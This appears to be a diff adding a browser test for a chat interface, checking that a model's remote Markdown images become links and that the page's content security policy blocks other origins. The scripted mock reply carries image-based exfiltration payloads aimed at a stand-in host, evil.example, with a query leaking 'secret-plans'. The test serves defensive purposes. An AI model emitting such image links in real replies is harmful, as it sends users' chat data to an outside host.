@@ -121,6 +121,38 @@ test("a message streams in, rendered as sanitised Markdown, with reasoning and u
   });
 });
 
+test("the page loads nothing from elsewhere: a model's remote image is a link, and the policy forbids other origins", async () => {
+  const favicon = await fetch(`${worker.url}/favicon.svg`);
+  assert.equal(favicon.status, 200);
+  await onPage("no-remote", async (page) => {
+    const failed = [];
+    page.on("requestfailed", (r) => failed.push(r.url()));
+    page.on("response", (r) => r.status() >= 400 && failed.push(`${r.status()} ${r.url()}`));
+    anthropic.script({ text: "Here: ![your chat](https://evil.example/log?q=secret-plans) and ![pixel](//evil.example/p.gif)" });
+    await send(page, "Show me");
+    await idle(page);
+    const answer = lastAnswer(page);
+    assert.equal(await answer.locator("img").count(), 0, "no remote image is shown");
+    const links = answer.locator("a");
+    assert.equal(await links.count(), 2);
+    assert.equal(await links.first().getAttribute("href"), "https://evil.example/log?q=secret-plans");
+    assert.equal(await links.first().innerText(), "your chat");
+    // Even a script of the page's own could not reach another origin.
+    const blocked = await page.evaluate(async (url) => {
+      try {
+        // no-cors: without the policy this resolves (an opaque response), whatever CORS says.
+        await fetch(url, { mode: "no-cors" });
+        return false;
+      } catch {
+        return true;
+      }
+    }, `${anthropic.url}/v1/messages`);
+    assert.ok(blocked, "connect-src keeps fetches to the page's origin");
+    assert.match(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content"), /img-src 'self' data: blob:/);
+    assert.deepEqual(failed.filter((u) => !u.includes(anthropic.url)), [], "nothing failed to load (the favicon included)");
+  });
+});
+
 test("a server tool's call and output appear", async () => {
   await onPage("server-tool", async (page) => {
     anthropic.script({ tools: [{ id: "toolu_time", name: "current_time", input: {} }] }, { text: "It is the time shown above." });
